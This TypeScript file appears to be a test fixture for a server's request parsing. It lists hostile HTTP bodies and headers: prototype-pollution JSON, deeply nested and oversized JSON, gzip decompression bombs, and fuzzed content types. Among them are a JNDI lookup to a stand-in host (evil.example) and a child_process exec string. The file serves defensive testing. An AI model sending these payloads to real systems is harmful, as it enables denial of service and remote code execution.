import { deflateSync, gzipSync } from 'node:zlib'
import { type CallAttack, HARMLESS_BODY } from './attack.ts'
import type { End } from './expectation.ts'
import { PLANTED_BODY } from './planted.ts'

const MEGABYTE = 1_048_576
const LIMIT = 10 * MEGABYTE

const JSON_BODIES: readonly (readonly [what: string, end: End, body: string])[] = [
  ['CVE-2019-10744 a prototype', 'accepted', '{"__proto__":{"polluted":1},"userId":"x"}'],
  [
    'CVE-2019-10744 a constructor',
    'accepted',
    '{"constructor":{"prototype":{"polluted":1}},"a":1}',
  ],
  ['CVE-2022-24999 a prototype in a list', 'accepted', '[{"a":1,"__proto__":{"toString":1}}]'],
  ['CVE-2020-36518 65 levels', 'content_limit', '['.repeat(65) + ']'.repeat(65)],
  ['CVE-2020-36518 a million levels', 'content_limit', '['.repeat(MEGABYTE)],
  ['CVE-2020-36518 a million levels of objects', 'content_limit', '{"a":'.repeat(MEGABYTE)],
  ['CWE-770 a million values', 'content_limit', `[${'1,'.repeat(1_000_001)}1]`],
  ['RFC 8259 2 half of it', 'json_malformed', `{"userId":"${PLANTED_BODY}`],
  ['RFC 8259 2 text behind it', 'json_malformed', `{"a":1} ${PLANTED_BODY}`],
  ['RFC 8259 2 two of it', 'json_malformed', '{"a":1}{"a":2}'],
  ['RFC 8259 4 no colon', 'json_malformed', `{"${PLANTED_BODY}"}`],
  ['RFC 8259 4 a comma too much', 'json_malformed', '{"a":1,}'],
  ['RFC 8259 4 no quotes', 'json_malformed', '{a:1}'],
  ['RFC 8259 6 NaN', 'json_malformed', '{"a":NaN}'],
  ['RFC 8259 6 a plus sign', 'json_malformed', '{"a":+1}'],
  ['RFC 8259 6 in hex', 'json_malformed', '{"a":0x1}'],
  ['RFC 8259 7 single quotes', 'json_malformed', `{'a':'${PLANTED_BODY}'}`],
  ['RFC 8259 7 a zero byte', 'json_malformed', '{"a":"\u0000"}'],
  ['RFC 8259 7 a line end in a text', 'json_malformed', '{"a":"\n"}'],
  ['RFC 8259 7 a strange escape', 'json_malformed', '{"a":"\\x41"}'],
  ['RFC 8259 2 a comment', 'json_malformed', '{/* */"a":1}'],
  ['RFC 8259 2 code', 'json_malformed', 'require("child_process").exec("id")'],
  ['RFC 8259 3 null', 'not_an_external_event', 'null'],
  ['RFC 8259 3 a number', 'not_an_external_event', '7'],
  ['RFC 8259 3 a text', 'not_an_external_event', `"${PLANTED_BODY}"`],
  ['RFC 8259 3 a list of numbers', 'not_an_external_event', '[1,2]'],
  ['RFC 8259 3 a list of lists', 'accepted', '[[{"a":1}]]'],
  ['RFC 8259 8.1 XML', 'json_malformed', HARMLESS_BODY],
  ['RFC 8259 2 blanks', 'body_empty', '   '],
  ['RFC 8259 8.2 half a pair', 'accepted', '{"userId":"\\ud800"}'],
  ['RFC 8259 8.2 a zero, escaped', 'accepted', '{"userId":"\\u0000"}'],
  ['RFC 8259 4 a name twice', 'accepted', '{"userId":"a","userId":"b"}'],
  ['RFC 8259 6 a number beyond all', 'accepted', `{"userId":1e400,"b":${'9'.repeat(5_000)}}`],
]

const ENCODED: readonly (readonly [what: string, end: End, encoding: string, body: Buffer])[] = [
  ['CWE-409 20 MB in gzip', 'body_too_large', 'gzip', gzipSync(Buffer.alloc(20 * MEGABYTE))],
  ['CWE-409 100 MB in gzip', 'body_too_large', 'gzip', gzipSync(Buffer.alloc(100 * MEGABYTE))],
  [
    'CWE-409 gzip in gzip',
    'body_encoding',
    'gzip',
    gzipSync(gzipSync(Buffer.alloc(20 * MEGABYTE))),
  ],
  ['CWE-409 many parts of gzip', 'body_too_large', 'gzip', parts(200)],
  ['RFC 1952 2.2 half of gzip', 'body_encoding', 'gzip', gzipSync(HARMLESS_BODY).subarray(0, 100)],
  ['RFC 1952 2.2 another sum', 'body_encoding', 'gzip', withOtherSum(gzipSync(HARMLESS_BODY))],
  ['RFC 1952 2.3 no gzip', 'body_encoding', 'gzip', Buffer.from(HARMLESS_BODY)],
  ['RFC 1952 2.3 deflate for gzip', 'body_encoding', 'gzip', deflateSync(HARMLESS_BODY)],
  ['RFC 9110 8.4 deflate', 'body_encoding', 'deflate', deflateSync(HARMLESS_BODY)],
  ['RFC 9110 8.4 br', 'body_encoding', 'br', Buffer.from(HARMLESS_BODY)],
  ['RFC 9110 8.4 zstd', 'body_encoding', 'zstd', Buffer.from(HARMLESS_BODY)],
  ['RFC 9110 8.4 gzip twice', 'body_encoding', 'gzip, gzip', gzipSync(gzipSync(HARMLESS_BODY))],
  ['RFC 9110 8.4 gzip and identity', 'body_encoding', 'gzip, identity', gzipSync(HARMLESS_BODY)],
  ['RFC 9110 8.4 a parameter', 'body_encoding', 'gzip;q=1', gzipSync(HARMLESS_BODY)],
  ['RFC 9110 8.4 a prototype', 'body_encoding', '__proto__', Buffer.from(HARMLESS_BODY)],
  ['RFC 9110 8.4 1,000 of them', 'body_encoding', Array(1_000).fill('gzip').join(), gzipSync('x')],
]

const TYPES: readonly (readonly [type: string, end: End])[] = [
  ['text/csv', 'csv_malformed'],
  ['text/html', 'content_type'],
  ['text/xml2', 'content_type'],
  ['application/x-www-form-urlencoded', 'form_malformed'],
  ['multipart/form-data; boundary=x', 'multipart_malformed'],
  ['multipart/related; type="text/xml"', 'multipart_malformed'],
  ['application/x-java-serialized-object', 'content_type'],
  ['application/x-yaml', 'content_type'],
  ['application/zip', 'content_type'],
  ['application/jwt', 'content_type'],
  ['message/http', 'content_type'],
  ['*/*', 'content_type'],
  ['text/xml, application/json', 'content_type'],
  ['text\\xml', 'content_type'],
  ['xml', 'content_type'],
  ['__proto__', 'content_type'],
  ['\u0024{jndi:ldap://evil.example/a}', 'content_type'],
  ['application/ada@harbour.example', 'content_type'],
  [`text/${'x'.repeat(20_000)}`, 'content_type'],
  ['text/xml; charset=utf-7', 'body_encoding'],
  ['text/xml; charset=utf-32', 'body_encoding'],
  ['text/xml; charset=x-evil', 'body_encoding'],
  ['text/xml; charset=ada@harbour.example', 'body_encoding'],
  [`text/xml; charset=${'x'.repeat(20_000)}`, 'body_encoding'],
  ['text/xml; charset=utf-16', 'body_encoding'],
  ['text/xml; charset=us-ascii', 'accepted'],
  [`text/xml;${' '.repeat(20_000)}charset=utf-8`, 'accepted'],
  ['application/soap+xml; charset=utf-7', 'body_encoding'],
  ['application/json; charset=utf-7', 'body_encoding'],
]

export const otherBodyAttacks: readonly CallAttack[] = [
  ...JSON_BODIES.map(
    ([what, end, body]): CallAttack => [what, end, { contentType: 'application/json', body }],
  ),
  ...ENCODED.map(
    ([what, end, encoding, body]): CallAttack => [
      what,
      end,
      { headers: [`Content-Encoding: ${encoding}`], body },
    ],
  ),
  ...TYPES.map(
    ([contentType, end]): CallAttack => [
      `RFC 9110 8.3 ${contentType.replaceAll(/ {9,}|x{99,}/g, '…')}`,
      end,
      { contentType },
    ],
  ),
  ['RFC 9110 15.5.14 a byte too much', 'body_too_large', { body: Buffer.alloc(LIMIT + 1, ' ') }],
  ['RFC 9110 15.5.14 20 MB', 'body_too_large', { body: Buffer.alloc(2 * LIMIT, ' ') }],
]

function parts(count: number): Buffer {
  const part = gzipSync(Buffer.alloc(MEGABYTE))
  return Buffer.concat(Array<Buffer>(count).fill(part))
}

function withOtherSum(zipped: Buffer): Buffer {
  zipped.writeUInt32LE(0, zipped.length - 8)
  return zipped
}
